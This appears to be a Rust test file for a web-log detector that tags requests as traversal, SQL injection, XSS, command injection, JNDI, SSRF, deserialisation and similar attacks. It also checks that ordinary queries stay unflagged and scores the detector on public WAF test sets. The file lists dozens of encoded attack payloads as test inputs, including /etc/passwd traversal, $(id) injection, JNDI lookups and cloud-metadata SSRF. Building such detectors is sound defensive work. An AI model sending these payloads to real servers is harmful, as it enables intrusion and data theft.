//! Attacks are named in `probes`, whatever redaction makes of the texts; ordinary requests are not. Shares over public sets
//! of both are measured where `$GATEWATCH_REFERENCE` names their folder.

#![allow(clippy::disallowed_methods, clippy::unwrap_used, clippy::print_stdout)] // a test is told by the environment where data is

use std::collections::BTreeMap;

use schemas::{Keys, Lane, Normaliser, RawBatch, SourceConfig, event_json};
use serde_json::{Value, json};

fn normaliser() -> Normaliser {
    Normaliser::new(&SourceConfig::new("nginx_json"), &Keys::new("k1", b"fake")).expect("a built-in kind")
}

fn probes(normaliser: &mut Normaliser, target: &str, agent: &str, referrer: &str) -> Vec<String> {
    let record = json!({"msec": 1_790_000_000, "remote_addr": "203.0.113.7", "request_method": "GET", "request_uri": target,
        "status": 200, "http_user_agent": agent, "http_referer": referrer});
    let mut raw = RawBatch::new();
    raw.push(0, 0, record.to_string().as_bytes());
    let events = normaliser.normalise(&Lane::new("probes", 0), &raw).events;
    let names = event_json(&events, 0)["probes"].clone();
    names
        .as_array()
        .map(|names| names.iter().filter_map(|name| name.as_str().map(String::from)).collect())
        .unwrap_or_default()
}

#[test]
fn attacks_are_named_through_encodings_and_redaction() {
    for (target, class) in [
        ("/static/../../etc/passwd", "traversal"),
        ("/download?file=..%2f..%2fconf", "traversal"),
        ("/a?file=%252e%252e%252fconf", "traversal"),
        ("/search?q=1%27%20OR%20%271%27=%271", "sqli"),
        ("/search?q=1+union+all+select+null,null--", "sqli"),
        ("/search?id=1;drop%20table%20users", "sqli"),
        ("/login?password=x%27%20or%20%271%27=%271", "sqli"),
        ("/login?token=eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.fake%27%20or%201=1--", "sqli"),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
        ("/search?q=%22%20onmouseover=%22alert(1)", "xss"),
        ("/ping?host=192.0.2.1;cat%20/etc/hostname", "cmdi"),
        ("/x?y=$(id)", "cmdi"),
        ("/x?y=${jndi:ldap://192.0.2.1/a}", "jndi"),
        ("/x?y=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D", "jndi"),
        ("/login?user[$ne]=x&password[$ne]=x", "nosqli"),
        ("/search?q=%7B%22$where%22:%22sleep(100)%22%7D", "nosqli"),
        ("/people?name=*)(uid=*))(|(uid=*", "ldapi"),
        ("/fetch?url=http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("/fetch?url=http://2852039166/", "ssrf"),
        ("/fetch?url=gopher://192.0.2.1:6379/_x", "ssrf"),
        ("/hello?name=%7B%7B7*7%7D%7D", "template"),
        ("/hello?name=$%7BT(java.lang.Runtime).getRuntime()%7D", "template"),
        ("/load?o=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D", "deserialisation"),
        ("/load?o=rO0ABXNyABFqYXZhLnV0aWwuSGFzaA", "deserialisation"),
        ("/set?__proto__.admin=1", "pollution"),
        ("/set?constructor[prototype][admin]=1", "pollution"),
        ("/go?to=x%0d%0aSet-Cookie:%20a=b", "crlf"),
        ("/%0d%0ax", "crlf"),
        ("/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D", "graphql"),
        ("/load?x=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file:///c%22%3E%5D%3E", "xxe"),
        ("/x?class.module.classLoader.URLs%5B0%5D=0", "exploit"),
        ("/_ignition/execute-solution", "exploit"),
        ("/a/b/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "exploit"),
        ("/a?search=%24%7Bscript%3Ajavascript%3Ax%7D", "exploit"),
        ("/a?login=$(echo$%7BIFS%7Dx)", "exploit"),
        ("/api/.env", "sensitive"),
        ("/%2egit/config", "sensitive"),
        // Twice, by `%u`, overlong, full-width letters, entities, comments, quotes inside a word, base64.
        ("/a?q=%2527%2520or%25201%253D1--", "sqli"),
        ("/a?q=%u0027%20or%201=1--", "sqli"),
        ("/a?f=%c0%ae%c0%ae%c0%afetc", "traversal"),
        ("/a?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)", "xss"),
        ("/a?q=%26lt;script%26gt;alert(1)", "xss"),
        ("/a?q=1%20un/**/ion/**/sel/**/ect%201,2", "sqli"),
        ("/a?q=;c'a't%20/et'c/pas's'wd", "traversal"),
        ("/a?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "xss"),
    ] {
        let names = probes(&mut normaliser(), target, "curl/8", "");
        assert!(names.iter().any(|name| name == class), "{target}: {names:?}");
    }
    let mut one = normaliser();
    assert_eq!(probes(&mut one, "/", "${jndi:ldap://192.0.2.1/a}", ""), ["jndi"]);
    assert_eq!(probes(&mut one, "/", "() { :; }; echo x", ""), ["cmdi"]);
    assert_eq!(probes(&mut one, "/", "curl/8", "https://r.example/?q=<script>x</script>"), ["xss"]);
}

#[test]
fn a_key_of_odata_is_no_attack() {
    let mut one = normaliser();
    for path in ["/odata/Customers(%27ALFKI%27)/Orders", "/odata/Customers('ALFKI')", "/o/A('1')/B('x-2')/c?$top=5"] {
        assert_eq!(probes(&mut one, path, "curl/8", ""), [""; 0], "{path}");
    }
    for path in ["/odata/Customers('a' or '1'='1')", "/x('a')'%20or%201=1--", "/x?q=a('b')'%20or%201=1--"] {
        assert_eq!(probes(&mut one, path, "curl/8", ""), ["sqli"], "{path}");
    }
}

#[test]
fn neither_length_nor_a_second_protocol_nor_the_host_hides_an_attack() {
    let long = "x".repeat(20_000);
    let mut one = normaliser();
    assert_eq!(probes(&mut one, &format!("/a?q={long}%27%20or%20%271%27=%271"), "curl/8", ""), ["sqli"]);
    assert_eq!(probes(&mut one, &format!("/a/{long}é/../../etc/passwd"), "curl/8", ""), ["traversal"]);
    assert_eq!(probes(&mut one, "/", &format!("{long} ${{jndi:ldap://192.0.2.1/a}}"), ""), ["jndi"]);
    assert_eq!(probes(&mut one, &format!("/a?q={long}&b=1"), &long, ""), [""; 0]);
    let of_record = |record: Value| {
        let mut raw = RawBatch::new();
        raw.push(0, 0, record.to_string().as_bytes());
        event_json(&normaliser().normalise(&Lane::new("probes", 0), &raw).events, 0)["probes"].clone()
    };
    let base = |more: (&str, &str)| {
        let mut record = json!({"msec": 1_790_000_000, "remote_addr": "203.0.113.7", "status": 200});
        record[more.0] = more.1.into();
        record
    };
    assert_eq!(of_record(base(("http_host", "a.example' or 1=1--"))), json!(["sqli"]));
    assert_eq!(of_record(base(("http_host", "api.shop.example:8443"))), Value::Null);
    assert_eq!(of_record(base(("request", "GET /x HTTP/1.1' or '1'='1 HTTP/1.1"))), json!(["sqli"]));
}

#[test]
fn ordinary_requests_are_not() {
    let mut normaliser = normaliser();
    for target in [
        "/v1/orders/42",
        "/a?q=blue%20shoes&sort=price",
        "/a?name=O%27Brien",
        "/a?q=salt+and+pepper",
        "/a?id=5&set=2&env=prod&cat=3",
        "/a?q=union+of+students",
        "/a?filter={\"a\":1}",
        "/a?q=rock+%26+roll",
        "/a?q=d%27or",
        "/app;jsessionid=fake1;v=1?x=1",
        "/a?range=1..5",
        "/a?q=C%2B%2B+or+Rust",
        "/logo@2x.png",
        "/a?t=12:30&d=2024-01-01--2024-02-01",
        "/odata/Orders?$filter=Price%20gt%2020&$select=Name,Price&$orderby=Name",
        "/a?q=select+a+gift",
        "/a?e=x%3Dy%3Bz",
        "/a?q=select+all+from+list",
        "/a?q=select+2+items",
        "/a?q=x+%3E+5+and+y+%3C+3",
        "/a?q=a%2Bb%3D2*(c-1)",
        "/a?q=%22red+shoes%22+AND+%22blue+hat%22",
        "/a?q=name%3D%27a%27+or+name%3D%27b%27",
        "/a?q=1950%27s+dresses",
        "/a?q=function+f(a)+%7B+return+a+%2B+1%3B+%7D",
        "/a?q=%3Cb%3Ebold%3C/b%3E",
        "/a?q=javascript:+the+good+parts",
        "/a?q=cats+%26+cat+food",
        "/a?q=how+to+use+%60git+rebase%60",
        "/a?cursor=eyJpZCI6NDIsImNyZWF0ZWQiOiIyMDI2LTAxLTAxIn0",
        "/a?text=line+one%0Aline+two",
        "/a?accept=*/*&fields=name|id",
        "/a?price[$gt]=5&price[$lte]=100",
        "/cb?redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fcb",
        "/assets/%7B%7Buser.avatar%7D%7D",
        "/odata/Orders?$filter=startswith(Name,%27A%27)%20or%20contains(Name,%27b%27)",
        "/api/v1/query?query=sum(rate(requests_total%7Bjob%3D%22api%22%7D%5B5m%5D))",
        "/graphql?query=%7Buser(id:1)%7Bname%20orders(first:10)%7Btotal%7D%7D%7D",
        "/v1/environments",
        "/api/backup-policies",
        "/git/repositories",
        "/v1/config",
        "/v1/env",
    ] {
        let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
        assert_eq!(probes(&mut normaliser, target, agent, "https://shop.example/?q=a%20b"), [""; 0], "{target}");
    }
}

#[test]
fn floods_of_graphql_are_and_a_page_with_a_few_aliases_is_not() {
    let query = |aliases: usize| {
        let fields: Vec<String> = (0..aliases).map(|i| format!("a{i}:login(pin:{i})%7Bok%7D")).collect();
        format!("/graphql?query=query%7B{}%7D", fields.join("%20"))
    };
    let mut one = normaliser();
    assert_eq!(probes(&mut one, &query(30), "curl/8", ""), ["graphql"]);
    assert_eq!(probes(&mut one, &query(8), "curl/8", ""), [""; 0]);
}

#[test]
#[ignore = "needs GATEWATCH_REFERENCE"]
fn shares_over_public_sets() {
    let root = std::path::PathBuf::from(
        std::env::var_os("GATEWATCH_REFERENCE").expect("GATEWATCH_REFERENCE names the folder of the data"),
    );
    let show = std::env::var("GATEWATCH_SHOW").unwrap_or_default();
    let mut normaliser = normaliser();
    let (mut benign, mut flagged, mut encoded, mut seen) = (0, 0, 0, 0);
    let mut shares: BTreeMap<(String, String), (u32, u32)> = BTreeMap::new();
    for set in ["httpparams", "libinjection", "owasp-crs", "gotestwaf"] {
        for line in std::fs::read_to_string(root.join(set).join("cases.jsonl")).expect("the set").lines() {
            let case: Value = serde_json::from_str(line).expect("a case is JSON");
            let text = |name: &str| case[name].as_str().unwrap_or("");
            let (mut target, mut agent) = (text("target"), text("user_agent"));
            if text("where") == "user_agent" && agent.is_empty() {
                (agent, target) = (text("payload"), "/");
            }
            let names = probes(&mut normaliser, target, agent, text("referer"));
            let is_attack = case["attack"].as_bool().expect("labelled");
            let share = shares
                .entry((set.to_string(), format!("{} {}", if is_attack { "attack" } else { "benign" }, text("class"))))
                .or_default();
            share.0 += 1;
            share.1 += u32::from(!names.is_empty());
            if is_attack && !matches!(text("encoder"), "" | "Plain") {
                encoded += 1;
                seen += u32::from(!names.is_empty());
            }
            // The rule tests of a WAF call values benign that are so for one rule only.
            if !is_attack && set != "owasp-crs" {
                benign += 1;
                flagged += u32::from(!names.is_empty());
            }
            if show == format!("{set} {}", text("class")) && names.is_empty() == is_attack {
                println!("{target} {agent} {names:?}");
            }
        }
    }
    for ((set, class), (all, named)) in &shares {
        println!("{set:14} {class:28} {named:5} of {all:5}  {:.1} %", 100.0 * f64::from(*named) / f64::from(*all));
    }
    let named = |class: &str| {
        let of =
            shares.iter().filter(|((set, c), _)| c.ends_with(class) && c.starts_with("attack") && set != "owasp-crs");
        let (all, named) = of.fold((0, 0), |sum, (_, share)| (sum.0 + share.0, sum.1 + share.1));
        f64::from(named) / f64::from(all)
    };
    println!("benign named: {flagged} of {benign}; sqli {:.3}, xss {:.3}", named("sqli"), named("xss"));
    println!("encoded: {seen} of {encoded}");
    assert_eq!(flagged, 0, "of {benign} benign values");
    assert!(named("sqli") >= 0.97 && named("xss") >= 0.97, "sqli {} xss {}", named("sqli"), named("xss"));
    assert!(f64::from(seen) >= 0.9 * f64::from(encoded), "{seen} of {encoded} encoded ones");
}
